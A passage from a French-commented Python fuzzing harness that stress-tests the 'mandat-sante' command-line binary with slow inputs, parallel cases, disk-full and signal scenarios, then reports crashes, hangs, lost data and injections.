        TALLY.problem("unexpected", f"init #{index}: fichiers temporaires laissés")
    shutil.rmtree(folder, ignore_errors=True)


# MARK: - Inputs that used to take minutes

def slow_cases(ws):
    folder = ws.folder()
    cases = {
        "20000-doublons.json": json.dumps({"name": "X", "kind": "commune", "population": 10, "density": "bourg-rural", "priorities": ["acces-aux-soins"] * 20000}),
        "4000-cles.json": json.dumps(dict([("name", "X"), ("kind", "commune"), ("population", 10), ("density", "bourg-rural")] + [(f"inconnu{i}", i) for i in range(4000)])),
    }
    for name, text in cases.items():
        open(os.path.join(folder, name), "w").write(text)
        result = run(ws.binary, ["roadmap", name], folder, timeout=30)
        judge("lents", name, result, {3})
        print(f"  {name} : {result.elapsed:.2f} s, {len(result.err.splitlines())} lignes d'erreur")
        if result.elapsed > 10:
            TALLY.problem("hang", f"lents {name}: {result.elapsed:.1f} s")
    shutil.rmtree(folder, ignore_errors=True)


# MARK: - Main

def main():
    parser = argparse.ArgumentParser(description="Balayage adverse du binaire mandat-sante (issue 17).")
    parser.add_argument("--binary", default=os.path.join(ROOT, ".build", "release", "mandat-sante"))
    parser.add_argument("--quick", action="store_true", help="un dixième des cas, pour un essai")
    parser.add_argument("--seed", type=int, default=17)
    parser.add_argument("--jobs", type=int, default=2)
    options = parser.parse_args()
    binary = os.path.abspath(options.binary)
    if not os.access(binary, os.X_OK):
        sys.exit(f"binaire introuvable : {binary} (swift build -c release)")
    scale = 0.1 if options.quick else 1.0
    rng = random.Random(options.seed)
    ws = Workspace(binary)
    started = time.monotonic()
    try:
        def parallel(name, function, count):
            print(f"== {name} ({count})", flush=True)
            seeds = [rng.randrange(1 << 30) for _ in range(count)]
            with concurrent.futures.ThreadPoolExecutor(options.jobs) as pool:
                list(pool.map(lambda pair: function(ws, random.Random(pair[1]), pair[0]), enumerate(seeds)))

        parallel("profils", profile_case, int(3000 * scale))
        parallel("CSV", csv_case, int(600 * scale))
        print("== bases de règles", flush=True)
        scenarios, vocabularies = rule_scenarios(ws, rng)
        work = [(name, recs, None) for name, recs in scenarios.items()] + [(name, None, voc) for name, voc in vocabularies.items()]
        with concurrent.futures.ThreadPoolExecutor(options.jobs) as pool:
            list(pool.map(lambda item: rule_case(ws, item[1][0], item[1][1], item[1][2], item[0]), enumerate(work)))
        print("== fichiers spéciaux, sorties, flux standard", flush=True)
        special_cases(ws)
        print("== disque plein", flush=True)
        disk_cases(ws, rng, max(3, int(60 * scale)))
        print("== signaux", flush=True)
        signal_cases(ws, rng, max(5, int(60 * scale)))
        parallel("init", init_case, int(1300 * scale))
        print("== entrées autrefois lentes", flush=True)
        slow_cases(ws)
    finally:
        ws.close()
    elapsed = time.monotonic() - started
    problems = TALLY.problems
    print()
    print(f"Balayage adverse : {TALLY.cases} cas en {elapsed / 60:.1f} min — " + ", ".join(f"{kind} {count}" for kind, count in sorted(TALLY.by_kind.items())))
    print(f"  plantages : {len(problems['crash'])}")
    print(f"  blocages : {len(problems['hang'])}")
    print(f"  données perdues : {len(problems['lost'])}")
    print(f"  injections passées : {len(problems['injection'])}")
    print(f"  issues inattendues (code non documenté, fichier temporaire laissé…) : {len(problems['unexpected'])}")
    for kind, entries in problems.items():
        for entry in entries[:15]:
            print(f"  [{kind}] {entry}")
    return 0 if not any(problems.values()) else 1


if __name__ == "__main__":
    sys.exit(main())
